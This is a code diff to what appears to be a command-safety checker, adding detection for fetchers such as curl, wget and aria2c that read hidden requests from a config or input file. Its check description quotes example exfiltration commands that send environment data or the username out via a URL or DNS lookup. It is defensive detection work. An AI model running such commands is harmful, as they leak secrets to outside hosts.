@@ -297,7 +297,49 @@ def computed_request(seg: Segment) -> str | None:
             if seg.program in _DNS_TOOLS:
                 return f"{seg.program} looks up a name built by a command: data can leave through DNS"
             return f"{seg.program} puts the output of a command into the request"
+    return requests_from_file(seg)
+
+
+# Options that make a fetcher read its requests (addresses, headers, bodies, output
+# files) from a file or stdin, where the command line does not show them: long forms,
+# and the short letter that can end a cluster (`curl -sK cfg`, `wget -qi urls`).
+_FROM_FILE_LONG = {"curl": ("--config",), "curlie": ("--config",), "wget": ("--input-file", "--execute", "--config"),
+                   "wget2": ("--input-file", "--execute", "--config"), "aria2c": ("--input-file", "--conf-path")}
+_FROM_FILE_SHORT = {"curl": "K", "curlie": "K", "wget": "ie", "wget2": "ie", "aria2c": "i"}
+# Short options that take a value: the rest of a cluster after one of them is that value.
+_VALUE_LETTERS = {"curl": set("dDoHuXKAeEbcCFTwxmrYyzUPQt"), "curlie": set("dDoHuXKAeEbcCFTwxmrYyzUPQt"),
+                  "wget": set("oOaiBtTwePUYlARDXIQ"), "wget2": set("oOaiBtTwePUYlARDXIQ"),
+                  "aria2c": set("idoxsjUl")}
+
+
+def requests_from_file(seg: Segment) -> str | None:
+    """``curl -K cfg``, ``wget -i urls.txt``, ``aria2c -i list``: what is fetched, sent
+    and written is in a file the command line does not show."""
+    longs = _FROM_FILE_LONG.get(seg.program)
+    if longs is None:
+        return None
+    shorts = _FROM_FILE_SHORT.get(seg.program, "")
+    takes = _VALUE_LETTERS.get(seg.program, set())
+    texts = seg.argv[1:]
+    for i, text in enumerate(texts):
+        following = texts[i + 1] if i + 1 < len(texts) else ""
+        if text.startswith("--"):
+            option, eq, value = text.partition("=")
+            if option in longs and not (option == "--execute" and _HARMLESS_WGETRC.match(value if eq else following)):
+                return f"{seg.program} {option} reads what it requests from a file the command does not show"
+            continue
+        if text.startswith("-") and len(text) > 1:
+            for at, letter in enumerate(text[1:], start=2):
+                if letter in shorts and not (letter == "e" and _HARMLESS_WGETRC.match(text[at:] or following)):
+                    return f"{seg.program} -{letter} reads what it requests from a file the command does not show"
+                if letter in takes:
+                    break
     return None
+
+
+# `wget -e robots=off`: a setting that changes neither what is fetched nor where it goes.
+_HARMLESS_WGETRC = re.compile(r"(?i)^\s*(robots|timeout|tries|wait|random_?wait|verbose|quiet|progress|timestamping"
+                              r"|no_?clobber|continue|limit_?rate|user_?agent|show_?progress)\s*=\s*[\w.:-]*\s*$")
 
 
 def literal_tokens(subject: Subject, seg: Segment) -> str | None:
@@ -375,7 +417,7 @@ def register(check: Callable) -> None:
         return None
 
     @check("computed-request", 35, "a request or DNS lookup carrying the output of a command "
-           "(curl \"https://x/?d=$(env)\", dig $(whoami).example.com)",
+           "(curl \"https://x/?d=$(env)\", dig $(whoami).example.com), or read from a file (curl -K, wget -i)",
            programs=FETCHERS | _DNS_TOOLS)
     def _computed(subject: Subject) -> str | None:
         seg = subject.segment
